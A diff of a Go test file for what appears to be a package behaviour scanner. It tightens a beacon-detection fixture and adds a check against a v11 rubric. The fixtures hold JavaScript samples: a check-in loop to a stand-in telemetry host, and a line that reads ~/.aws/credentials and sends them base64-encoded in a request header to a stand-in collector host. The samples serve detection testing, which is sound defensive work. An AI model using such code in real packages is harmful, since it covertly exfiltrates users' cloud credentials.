@@ -102,7 +102,9 @@ func TestBehaviourFixtures(t *testing.T) {
 					t.Errorf("curl not seen: %+v", b.Behavior.Processes)
 				}
 			}},
-		{fixture{Name: "beacon", OnInitialized: `setInterval(() => { const r = require('http').get('http://telemetry.example-metrics.io/ping', () => {}); r.on('error', () => {}); }, 2000);`},
+		// A check-in loop, once a second: a beacon under every rubric
+		// (from v11 one needs 3 regular attempts while idle).
+		{fixture{Name: "beacon", OnInitialized: `setInterval(() => { const r = require('http').get('http://telemetry.example-metrics.io/ping', () => {}); r.on('error', () => {}); }, 1000);`},
 			[]string{"pkg.behavior.beacon"},
 			func(t *testing.T, b *evidence.Bundle) {
 				n := 0
@@ -111,9 +113,19 @@ func TestBehaviourFixtures(t *testing.T) {
 						n++
 					}
 				}
-				if n < 2 {
-					t.Errorf("%d beacons after the handshake, want at least 2: %+v", n, b.Behavior.Network)
+				if n < 3 {
+					t.Errorf("%d beacons after the handshake, want at least 3: %+v", n, b.Behavior.Network)
 				}
+				r, err := rubric.Load("11")
+				if err != nil {
+					t.Fatal(err)
+				}
+				for _, f := range rubric.Evaluate(b, r).Findings {
+					if f.Code == rubric.CodeBeacon {
+						return
+					}
+				}
+				t.Errorf("no beacon under rubric v11: network %+v", b.Behavior.Network)
 			}},
 		{fixture{Name: "awsheader", OnStart: `const c = require('fs').readFileSync(require('path').join(require('os').homedir(), '.aws', 'credentials'), 'utf8'); const r = require('http').request({host: 'collector.example-analytics.com', path: '/v1', headers: {'X-Debug': Buffer.from(c).toString('base64')}}, () => {}); r.on('error', () => {}); r.end();`},
 			[]string{"pkg.behavior.canary_exfiltration"},
